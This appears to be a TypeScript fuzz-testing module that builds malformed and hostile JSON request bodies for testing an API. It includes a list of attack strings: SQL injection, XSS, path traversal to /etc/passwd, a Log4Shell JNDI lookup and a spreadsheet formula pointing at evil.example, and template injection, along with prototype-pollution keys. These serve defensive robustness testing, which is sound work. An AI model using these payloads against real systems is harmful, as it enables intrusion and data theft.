/** A seeded pseudo-random source (mulberry32): the same seed always yields the same bodies. */
export function seededRandom(seed: number) {
  let state = seed >>> 0;
  const next = () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4_294_967_296;
  };
  const int = (max: number) => Math.floor(next() * max);
  const pick = <T>(items: readonly T[]): T => items[int(items.length)]!;
  return { next, int, pick };
}
export type Random = ReturnType<typeof seededRandom>;

/** Numbers at the edges: zero, signs, 32/53-bit limits, float extremes. */
const EDGE_NUMBERS = [
  0,
  -0,
  1,
  -1,
  0.5,
  101,
  2 ** 31 - 1,
  2 ** 31,
  -(2 ** 31),
  2 ** 53 - 1,
  2 ** 53 + 2,
  -(2 ** 53),
  1e21,
  1e308,
  -1e308,
  5e-324,
  10_000_001,
  2_000_001,
];

/** Strings a hostile client sends: injection, markup, spreadsheet formulas, odd unicode. */
const NASTY_STRINGS = [
  '',
  ' ',
  '\u0000',
  "' OR 1=1 --",
  '"; DROP TABLE leads; --',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '=HYPERLINK("http://evil.example")',
  '../../etc/passwd',
  '%00%2e%2e%2f',
  '${jndi:ldap://evil.example/a}',
  '{{constructor.constructor("return process")()}}',
  '\u202Eevil\u202C',
  'zero\u200Bwidth',
  '🚗💨'.repeat(20),
  'Ωmega ñandú 東京 שלום',
  '\ud800',
  '\udfff\ud800',
  '0412 345 678',
  'jo@example.com',
  '2300',
  'general-enquiry',
  'valuation',
  'NaN',
  'true',
  'null',
  '__proto__',
];

/** Keys that pollute prototypes when an object is merged carelessly. */
export const POLLUTION_KEYS = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf'];

/** Sets a key as an own enumerable property, even `__proto__` (plain assignment would change the prototype). */
export function setOwn(target: Record<string, unknown>, key: string, value: unknown): void {
  Object.defineProperty(target, key, { value, enumerable: true, writable: true, configurable: true });
}

function hugeString(random: Random): string {
  const length = random.pick([256, 1000, 5001, 20_000, 40_000]);
  return random.pick(['x', 'é', '🚗', '<a>', '\\"']).repeat(Math.ceil(length / 2));
}

/** Any JSON value, nesting up to `depth` more levels. */
export function anyValue(random: Random, depth = 3): unknown {
  const kind = random.int(depth > 0 ? 10 : 7);
  switch (kind) {
    case 0:
      return null;
    case 1:
      return random.next() < 0.5;
    case 2:
      return random.pick(EDGE_NUMBERS);
    case 3:
      return (random.next() - 0.5) * 10 ** random.int(12);
    case 4:
      return random.pick(NASTY_STRINGS);
    case 5:
      return random.int(8) === 0 ? hugeString(random) : random.pick(NASTY_STRINGS) + String(random.int(1000));
    case 6:
      return String.fromCodePoint(...Array.from({ length: 1 + random.int(12) }, () => random.int(0x10ffff)));
    case 7:
    case 8:
      return Array.from({ length: random.int(5) }, () => anyValue(random, depth - 1));
    default: {
      const object: Record<string, unknown> = {};
      for (let i = random.int(5); i > 0; i -= 1) {
        const key = random.int(3) === 0 ? random.pick(POLLUTION_KEYS) : random.pick(NASTY_STRINGS) || 'k';
        setOwn(object, key, anyValue(random, depth - 1));
      }
      return object;
    }
  }
}

/** One generated request body: JSON text, or raw text that is not JSON at all. */
export interface FuzzBody {
  text: string;
  contentType: string;
  /** How it was made, for the report of a failure. */
  kind: string;
}

const nested = (levels: number) => `{"a":${'['.repeat(levels)}${']'.repeat(levels)}}`;

/** A body derived from a valid one: a field of the wrong type, missing, extra, polluted, or no JSON at all. */
export function mutateBody(random: Random, valid: Record<string, unknown>): FuzzBody {
  const json = (value: unknown, kind: string): FuzzBody => ({
    text: JSON.stringify(value),
    contentType: 'application/json',
    kind,
  });
  const keys = Object.keys(valid);
  const copy = () => {
    const body: Record<string, unknown> = {};
    for (const key of keys) setOwn(body, key, valid[key]);
    return body;
  };
  const strategy = random.int(12);
  switch (strategy) {
    case 0:
    case 1:
    case 2: {
      const body = copy();
      setOwn(body, random.pick(keys), anyValue(random));
      return json(body, 'wrong type');
    }
    case 3: {
      const body: Record<string, unknown> = {};
      for (const key of keys) if (random.next() < 0.5) setOwn(body, key, valid[key]);
      return json(body, 'missing fields');
    }
    case 4: {
      const body = copy();
      for (let i = 1 + random.int(4); i > 0; i -= 1)
        setOwn(body, random.pick([...POLLUTION_KEYS, 'extra', 'isAdmin', 'website_id ']), anyValue(random));
      return json(body, 'extra and polluting keys');
    }
    case 5: {
      const body = copy();
      for (const key of keys) setOwn(body, key, null);
      return json(body, 'all null');
    }
    case 6:
      return json(anyValue(random, 4), 'random value');
    case 7: {
      const body = copy();
      setOwn(body, random.pick(keys), hugeString(random));
      return json(body, 'huge string');
    }
    case 8: {
      const text = JSON.stringify(valid);
      return { text: text.slice(0, random.int(text.length)), contentType: 'application/json', kind: 'truncated' };
    }
    case 9:
      return {
        text: random.pick([nested(20), nested(5000), '{"a":1,}', "{'a':1}", '\u00ff\u00fe{', 'undefined', '']),
        contentType: 'application/json',
        kind: 'malformed JSON',
      };
    case 10:
      return {
        text: JSON.stringify(valid),
        contentType: random.pick(['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data', '']),
        kind: 'wrong content type',
      };
    default: {
      const body = copy();
      for (const key of keys) if (random.next() < 0.5) setOwn(body, key, anyValue(random, 2));
      return json(body, 'many wrong types');
    }
  }
}
